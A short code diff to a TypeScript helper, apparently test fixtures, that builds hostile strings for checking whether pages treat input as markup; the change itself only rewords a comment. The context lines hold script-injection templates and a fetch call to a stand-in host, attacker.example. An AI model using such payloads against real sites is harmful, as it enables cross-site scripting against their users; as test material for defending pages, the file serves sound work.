@@ -1,7 +1,7 @@
 const URLS = ['https://attacker.example/x', '//attacker.example/x'];
 const CODE = ['attacked()', 'fetch("https://attacker.example/x")'];
 
-/** Returns strings that would do something if a page treated them as markup, a link or a style, and strings with odd characters. */
+/** Returns strings that would do something if a page treated them as markup, a link or a style, and strings with unusual characters. */
 export function hostileStrings(): string[] {
   const markup = CODE.flatMap((code) => [
     `<script>${code}</script>`,
